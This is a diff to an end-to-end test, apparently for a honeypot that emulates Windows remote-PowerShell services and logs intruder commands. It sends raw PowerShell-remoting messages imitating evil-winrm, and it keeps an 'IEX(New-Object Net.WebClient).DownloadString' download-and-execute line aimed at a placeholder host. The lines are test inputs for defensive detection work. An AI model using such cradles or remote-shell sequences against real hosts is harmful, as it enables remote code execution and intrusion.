@@ -50,6 +50,34 @@ assert result.status_code == 0 and result.std_out.strip().endswith(b'administrat
 result = session.run_ps('IEX(New-Object Net.WebClient).DownloadString(\"http://192.0.2.9/e2e.ps1\")')
 assert result.status_code == 0, result.std_err
 assert session.run_cmd('nosuchprogram').status_code == 1
+# Remote PowerShell, message by message as evil-winrm and pypsrp send it.
+import base64, re, struct, uuid
+pool, pipeline = uuid.uuid4(), uuid.uuid4()
+SHELL = 'http://schemas.microsoft.com/wbem/wsman/1/windows/shell'
+def fragment(number, kind, data):
+    blob = struct.pack('<II', 2, kind) + pool.bytes_le + pipeline.bytes_le + data
+    return base64.b64encode(struct.pack('>QQBI', number, 0, 3, len(blob)) + blob).decode()
+def ask(action, body):
+    text = session.protocol.send_message(
+        '<s:Envelope xmlns:s=\"http://www.w3.org/2003/05/soap-envelope\" xmlns:a=\"a\" xmlns:w=\"w\" xmlns:r=\"%s\">'
+        '<s:Header><a:Action>%s</a:Action><a:MessageID>uuid:%s</a:MessageID><w:ResourceURI>'
+        'http://schemas.microsoft.com/powershell/Microsoft.PowerShell</w:ResourceURI><w:SelectorSet>'
+        '<w:Selector Name=\"ShellId\">%s</w:Selector></w:SelectorSet></s:Header><s:Body>%s</s:Body></s:Envelope>'
+        % (SHELL, action, uuid.uuid4(), pool, body))
+    text = text.decode() if isinstance(text, bytes) else text
+    return b''.join(base64.b64decode(one) for one in re.findall('<rsp:Stream Name=\"stdout\"[^>]*>([^<]*)<', text))
+opening = base64.b64encode(b''.join(base64.b64decode(fragment(n, kind, b'<Obj/>'))
+    for n, kind in ((1, 0x10002), (2, 0x10004)))).decode()
+ask('http://schemas.xmlsoap.org/ws/2004/09/transfer/Create',
+    '<r:Shell ShellId=\"%s\"><creationXml>%s</creationXml></r:Shell>' % (pool, opening))
+assert b'PSVersionTable' in ask(SHELL + '/Receive', '<r:Receive><r:DesiredStream>stdout</r:DesiredStream></r:Receive>')
+script = (b'<Obj><MS><S N=\"Cmd\">whoami; Invoke-E2eNothing</S><B N=\"IsScript\">true</B>'
+    b'<B N=\"EndOfStatement\">false</B></MS></Obj>')
+ask(SHELL + '/Command', '<r:CommandLine CommandId=\"%s\"><r:Command/><r:Arguments>%s</r:Arguments></r:CommandLine>'
+    % (pipeline, fragment(3, 0x21006, script)))
+given = ask(SHELL + '/Receive',
+    '<r:Receive><r:DesiredStream CommandId=\"%s\">stdout</r:DesiredStream></r:Receive>' % pipeline)
+assert b'administrator</S>' in given and b'CommandNotFoundException' in given, given
 print('done')
 ";
 
@@ -181,6 +209,7 @@ fn windows(fleet: &Fleet) {
     assert!(line["fields"]["crack_line"].as_str().is_some_and(|line| line.contains("::")), "{line}");
     fleet.wait_for_text("command", "command", "whoami");
     fleet.wait_for_text("download_attempt", "url", "http://192.0.2.9/e2e.ps1");
+    fleet.wait_for_text("command", "command", "whoami; Invoke-E2eNothing");
     python(MAPPER, &fleet.ip(3));
     fleet.wait_for_text("command", "command", "ept_lookup");
     let scan = ["-Pn", "-sT", "-sV", "-p", "15985,10135", &fleet.ip(3)];
